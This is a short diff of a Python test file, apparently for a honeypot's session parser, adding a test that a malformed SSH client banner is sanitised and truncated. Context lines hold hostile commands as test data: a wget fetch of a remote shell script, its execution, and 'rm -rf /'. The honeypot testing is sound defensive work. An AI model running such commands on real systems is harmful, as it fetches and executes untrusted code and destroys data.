@@ -297,6 +297,19 @@ def test_telnet_has_no_ssh_client_and_is_a_client_all_the_same() -> None:
     assert found.features["client"] == {"session.client": "telnet:"}
 
 
+def test_a_hostile_banner_is_storable() -> None:
+    client = {
+        "version": "SSH-2.0-\x00\ud800" + "x" * 5000,
+        "hassh": "a" * 32,
+        "kex": ["\udfff", 7, None],
+        "size": 3,
+    }
+    found = values(session([], client=client))
+    assert found["toolchain.ssh.ssh_client_banner"].startswith("SSH-2.0-\ufffd\ufffdx")
+    assert len(found["toolchain.ssh.ssh_client_banner"]) == 255
+    assert found["toolchain.ssh.kex_algorithm_order"] == ["\ufffd"]
+
+
 def test_scripts_that_the_honeypot_read_are_no_commands() -> None:
     found = values(
         session(["wget http://192.0.2.9/x.sh", "sh x.sh", "#!/bin/sh\nrm -rf /\n", "echo stage\n"])
